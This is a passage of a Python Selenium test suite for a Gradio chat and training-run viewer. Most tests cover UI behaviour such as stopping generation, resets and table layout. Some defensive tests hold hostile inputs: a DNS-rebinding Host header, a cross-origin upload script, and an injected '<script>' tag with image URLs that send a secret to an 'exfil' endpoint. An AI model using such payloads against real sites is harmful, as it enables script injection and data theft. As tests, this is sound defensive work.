    """DNS rebinding: a page on another name that resolves to this machine gets no app, and no API."""
    import urllib.error
    import urllib.request

    from selenium.webdriver.common.by import By

    browser.get(f"http://{OTHER_HOST}:{app.port}/")
    assert "is not served here" in browser.find_element(By.TAG_NAME, "body").text
    assert not browser.find_elements(By.ID, "chat-input")
    request = urllib.request.Request(f"{app.url}/config", headers={"Host": f"{OTHER_HOST}:{app.port}"})
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(request, timeout=30)
    assert refused.value.code == 400
    with urllib.request.urlopen(f"{app.url}/config", timeout=30) as page:  # its own address still works
        assert page.status == 200


def test_a_cross_origin_upload_and_post_are_refused(browser, app, other_site):
    (other_site.folder / "upload.html").write_text(f"""<script>
        const form = new FormData();
        form.append("files", new Blob(["cross-site payload"]), "payload.txt");
        const post = (path, body) => fetch("{app.url}" + path, {{method: "POST", mode: "no-cors", body}})
            .then(() => "sent", e => "failed: " + e);
        Promise.all([post("/gradio_api/upload", form),
                     post("/gradio_api/queue/join", JSON.stringify({{data: ["hi"], fn_index: 0}}))])
            .then(r => {{ window.done = r; }});
    </script>""")
    since = len(app.lines)
    browser.get(f"{other_site.url}/upload.html")
    wait_for(lambda: browser.execute_script("return window.done"), what="the other site's requests")
    server_line(app, "refused POST /gradio_api/upload", since, 10)
    server_line(app, "refused POST /gradio_api/queue/join", since, 10)
    landed = [p for p in app.temp_dir.rglob("*") if p.is_file() and b"cross-site payload" in p.read_bytes()]
    assert not landed


def test_typed_html_is_shown_as_text_and_no_remote_image_is_fetched(browser, app, other_site):
    from selenium.webdriver.common.by import By

    typed = (
        f'<script>window.pwned = 1</script> <img src="{other_site.url}/exfil-img?secret=42"> '
        f"![x]({other_site.url}/exfil-md?secret=42) **not bold** a_b_c"
    )
    send_message(browser, typed)
    wait_for(lambda: "tokens/s" in text_of(browser, "chat-status"), what="the reply")
    assert bubbles(browser, "user")[-1].strip() == typed
    assert not browser.find_elements(By.CSS_SELECTOR, "#chat-history img, #chat-history strong")
    # however an image got into the page (a reply), its policy lets the browser fetch none from elsewhere
    browser.execute_script(
        f"const i = document.createElement('img'); i.src = '{other_site.url}/exfil-csp'; "
        f"document.body.appendChild(i);"
    )
    time.sleep(2)
    assert not [p for p in other_site.requested if "exfil" in p], other_site.requested
    assert browser.execute_script("return window.pwned") is None
    browser.save_screenshot(str(ARTIFACTS / "chat_typed_html.png"))
    browser.find_element(By.ID, "chat-reset").click()


def answer_started(browser) -> None:
    try:
        wait_for(lambda: "generating" in text_of(browser, "chat-status"), what="the answer to start")
    except AssertionError:
        browser.save_screenshot(str(ARTIFACTS / "no_answer.png"))
        raise AssertionError(
            f"no answer started; the status says {text_of(browser, 'chat-status')!r}"
        ) from None


def test_stop_ends_the_generation_and_keeps_the_answer_so_far(browser, app):
    from selenium.webdriver.common.by import By

    set_max_new_tokens(browser, 1024)
    send_message(browser, "Count to a thousand.")
    answer_started(browser)
    since, clicked = len(app.lines), time.monotonic()
    browser.find_element(By.ID, "chat-stop").click()
    try:
        line = server_line(app, "generation stopped after", since, 10)
    except AssertionError:
        browser.save_screenshot(str(ARTIFACTS / "stop_failed.png"))
        raise
    ended_s = time.monotonic() - clicked
    assert "(stop button)" in line and ended_s < 5, (line, ended_s)
    status = wait_for(
        lambda: "stopped:" in (s := text_of(browser, "chat-status")) and s, what="the stopped status"
    )
    tokens = int(status.split("stopped: ")[1].split()[0])
    assert 0 < tokens < 1024 and bubbles(browser, "bot")[-1].strip(), status
    browser.find_element(By.ID, "chat-reset").click()


def test_closing_the_page_ends_its_generation(browser, app):
    main = browser.current_window_handle
    browser.switch_to.new_window("tab")
    count_updates(browser)
    load_app(browser, app.url)
    set_max_new_tokens(browser, 1024)
    send_message(browser, "Count to a thousand.")
    answer_started(browser)
    since, closed = len(app.lines), time.monotonic()
    browser.close()
    browser.switch_to.window(main)
    line = server_line(app, "generation stopped after", since, 15)
    ended_s = time.monotonic() - closed
    assert "went away" in line and ended_s < 10, (line, ended_s)


def test_reset_during_an_answer_forgets_it(browser, app):
    from selenium.webdriver.common.by import By

    set_max_new_tokens(browser, 1024)
    send_message(browser, "Count to a thousand.")
    answer_started(browser)
    browser.find_element(By.ID, "chat-reset").click()
    wait_for(lambda: not bubbles(browser, "user"), what="the reset to clear the conversation")
    time.sleep(3)
    assert not bubbles(browser, "user") and not bubbles(browser, "bot")  # the stream did not come back
    set_max_new_tokens(browser, 8)
    send_message(browser, "Second question.")
    wait_for(lambda: "tokens/s" in text_of(browser, "chat-status"), what="the next reply")
    assert bubbles(browser, "user") == ["Second question."] and len(bubbles(browser, "bot")) == 1


def test_a_run_outside_the_roots_is_refused(browser, app, outputs, tmp_path):
    """Only runs under paths.output_dir and run_dir's parent: a folder elsewhere, typed or posted, is not
    loaded."""
    from gradio_client import Client
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys

    elsewhere = tmp_path / "elsewhere"
    shutil.copytree(outputs / "tiny" / "run1", elsewhere)  # a real run: loading it would work
    box = wait_for(lambda: browser.find_elements(By.CSS_SELECTOR, "#run-select input"), what="the run list")[
        0
    ]
    box.click()
    box.send_keys(Keys.CONTROL, "a")
    box.send_keys(str(elsewhere), Keys.ENTER)
    browser.find_element(By.TAG_NAME, "h2").click()
    wait_for(lambda: box.get_attribute("value") != str(elsewhere), 10, "the typed path to be dropped")

    since = len(app.lines)
    client = Client(app.url, verbose=False)
    try:
        result = client.predict(
            "hi", str(elsewhere), "base", "", False, 1.0, 50, 1.0, 4, 1.0, api_name="/respond"
        )
        said = str(result[-1])
    except Exception as e:  # noqa: BLE001 - Gradio's own check of the choices may answer first
        said = str(e)
    assert "not a run under" in said or "not in the list of choices" in said, said
    assert not any("loaded in" in line and "elsewhere" in line for line in app.lines[since:])


def test_a_sweep_plot_is_shown_whole(browser, app):
    from selenium.webdriver.common.by import By

    open_tab(browser, "Sweeps")
    plots = wait_for(
        lambda: len(found := browser.find_elements(By.CSS_SELECTOR, "#sweep-plots img")) >= 3 and found,
        what="the plots",
    )
    browser.execute_script("arguments[0].scrollIntoView()", plots[0])
    wait_for(
        lambda: all(
            browser.execute_script("return arguments[0].complete && arguments[0].naturalWidth", p)
            for p in plots
        ),
        what="the plots to load",
    )
    for plot in plots:
        box = browser.execute_script(
            """
            const img = arguments[0], r = img.getBoundingClientRect();
            const fit = getComputedStyle(img).objectFit;
            let w = r.width, h = r.height;  // the drawn picture inside the box, for object-fit: contain
            if (fit === 'contain' || fit === 'scale-down') {
                const s = Math.min(r.width / img.naturalWidth, r.height / img.naturalHeight);
                w = img.naturalWidth * s; h = img.naturalHeight * s;
            }
            let clipped = false;  // an ancestor that hides what overflows it, smaller than the picture
            for (let p = img.parentElement; p && p.id !== 'sweep-plots'; p = p.parentElement) {
                const o = getComputedStyle(p), q = p.getBoundingClientRect();
                if ((o.overflow + o.overflowX + o.overflowY).includes('hidden') &&
                    (q.width + 1 < w || q.height + 1 < h)) clipped = true;
            }
            return {w, h, nw: img.naturalWidth, nh: img.naturalHeight, fit, clipped};""",
            plot,
        )
        assert box["fit"] != "cover" and not box["clipped"], box
        assert box["w"] / box["h"] == pytest.approx(box["nw"] / box["nh"], rel=0.02), box
    browser.save_screenshot(str(ARTIFACTS / "sweep_plots.png"))


def test_chat_input_and_send_are_in_view_at_1400x900(browser, app):
    from selenium.webdriver.common.by import By

    page_size(browser, 1400, 900)  # the next test's page is back at the default size
    load_app(browser, app.url)
    wait_for(lambda: browser.find_elements(By.CSS_SELECTOR, "#chat-input textarea"), what="the chat input")
    height = browser.execute_script("return window.innerHeight")
    for css in ("#chat-input textarea", "#chat-send", "#chat-stop"):
        bottom = browser.execute_script(
            "return arguments[0].getBoundingClientRect().bottom",
            browser.find_element(By.CSS_SELECTOR, css),
        )
        assert bottom <= height, (css, bottom, height)
    browser.save_screenshot(str(ARTIFACTS / "chat_1400x900.png"))


def page_size(browser, width: int, height: int) -> None:
    """The window size that gives the page width x height."""
    browser.set_window_size(width, height)
    inner = browser.execute_script("return [window.innerWidth, window.innerHeight]")
    browser.set_window_size(2 * width - inner[0], 2 * height - inner[1])


def test_runs_table_fits_long_names_and_says_utc(browser, app):
    page_size(browser, 1400, 900)
    load_app(browser, app.url)
    open_tab(browser, "Runs")
    wait_for(lambda: LONG_JOB in text_of(browser, "runs-table"), what="the sweep job in the runs table")
    assert "started (UTC)" in text_of(browser, "runs-table")
    rows = browser.execute_script("""return [...document.querySelectorAll('#runs-table [role="row"]')]
        .map(r => [r.textContent, r.getBoundingClientRect().height]).filter(r => r[1] > 0)""")
    long_row = next(height for text, height in rows if LONG_JOB in text)
    short_row = next(height for text, height in rows if "tiny/run1" in text)
    browser.save_screenshot(str(ARTIFACTS / "runs_long_names.png"))
    assert long_row <= 1.6 * short_row, rows  # the date and the losses take two lines: the name three at most
    browser.save_screenshot(str(ARTIFACTS / "runs_long_names.png"))
    choose(browser, "run-open", f"multirun/2026-11-30/08-12-33/{LONG_JOB}")
    command = wait_for(
        lambda: "pipeline=evaluate" in (t := text_of(browser, "run-evaluation")) and t,
        what="the suggested evaluate command",
    )
    assert "\"run_dir='" in command and "'\"" in command, command  # quoted for the shell and for Hydra


def test_new_runs_and_sweeps_show_on_reload_and_a_gone_sweep_says_so(browser, app, outputs):
    from selenium.webdriver.common.by import By

    shutil.copytree(
        outputs / "tiny" / "run1", outputs / "tiny" / "run3", ignore=shutil.ignore_patterns("checkpoints")
    )
    later = outputs / "multirun" / "later"
    shutil.copytree(outputs / "multirun" / "demo", later)
    (later / "summary.md").write_text(
        (later / "summary.md").read_text().replace("Sweep report: demo", "Sweep report: later")
    )
    try:
        load_app(browser, app.url)  # a reload reads the folders again
        open_tab(browser, "Runs")
        wait_for(lambda: "tiny/run3" in text_of(browser, "runs-table"), what="the new run in the runs table")
        open_tab(browser, "Sweeps")
        wait_for(lambda: "Sweep report: later" in text_of(browser, "sweep-summary"), what="the newest sweep")
        shutil.rmtree(later)  # moved or deleted while the page shows it
        load_app(browser, app.url)
        open_tab(browser, "Sweeps")
        wait_for(
            lambda: "Sweep report: demo" in text_of(browser, "sweep-summary"), what="the remaining sweep"
        )
        assert not browser.find_elements(By.CSS_SELECTOR, ".toast-body")  # no error popup
        # gone between listing and opening: the message is on that sweep only
        shutil.copytree(outputs / "multirun" / "demo", later)
        browser.find_element(By.ID, "sweeps-refresh").click()
        choose(browser, "sweep-select", "multirun/later")  # listed again after ↻
        shutil.rmtree(later)
        choose(browser, "sweep-select", "multirun/demo")
        wait_for(lambda: "Sweep report: demo" in text_of(browser, "sweep-summary"), what="the demo sweep")
        choose(browser, "sweep-select", "multirun/later")
        wait_for(
            lambda: "cannot be read" in text_of(browser, "sweep-summary"), what="the gone sweep's message"
        )
        assert not browser.find_elements(By.CSS_SELECTOR, ".toast-body")
    finally:
        shutil.rmtree(later, ignore_errors=True)
        shutil.rmtree(outputs / "tiny" / "run3", ignore_errors=True)


def test_a_message_too_long_is_not_sent_and_trimmed_turns_are_named(browser, app):
    from selenium.webdriver.common.by import By

    set_max_new_tokens(browser, 1024)
    long = "word " * 1100  # more than the tiny model's 2048 tokens of context with 1024 new ones
    box = wait_for(
        lambda: browser.find_elements(By.CSS_SELECTOR, "#chat-input textarea"), what="the chat input"
    )[0]
    browser.execute_script(
        "arguments[0].value = arguments[1]; arguments[0].dispatchEvent(new Event('input', {bubbles: true}))",
        box,
        long,
    )
    browser.find_element(By.ID, "chat-send").click()
    status = wait_for(lambda: "not sent" in (s := text_of(browser, "chat-status")) and s, what="the refusal")
    assert "context of 2048 tokens" in status and "max new tokens 1024" in status, status
    assert box.get_attribute("value").strip() == long.strip() and not bubbles(browser, "user")  # handed back

    half = "word " * 500  # two of these with their answers do not fit: the first exchange is dropped
    # the second reply's status must be waited for by its own note: the first reply's "tokens/s" is still
    # shown while the second one generates
    for done in ("tokens/s", "no longer fit"):
        browser.execute_script(
            "arguments[0].value = arguments[1]; "
            "arguments[0].dispatchEvent(new Event('input', {bubbles: true}))",
            box,
            half,
        )
        browser.find_element(By.ID, "chat-send").click()
        wait_for(lambda done=done: done in text_of(browser, "chat-status"), 120, "the reply")
    status = text_of(browser, "chat-status")
    assert "the oldest 2 messages no longer fit the context (2048 tokens)" in status, status
    assert len(bubbles(browser, "user")) == 2  # still in view
    browser.find_element(By.ID, "chat-reset").click()
